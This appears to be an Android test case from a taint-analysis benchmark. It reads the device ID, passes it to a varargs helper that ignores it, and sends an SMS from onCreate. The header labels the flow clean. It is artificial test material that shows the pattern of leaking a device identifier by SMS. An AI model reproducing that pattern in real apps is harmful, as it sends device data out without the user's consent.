// about       A method with a variable number of arguments uses the first and their number only.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  private static String describe(String... parts) {
    // The first argument, a constant, and how many there are.
    return parts[0] + " and " + (parts.length - 1) + " more";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = Settings.Secure.getString(getContentResolver(), "android_id");
    String text = describe("v1", id, "end");
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
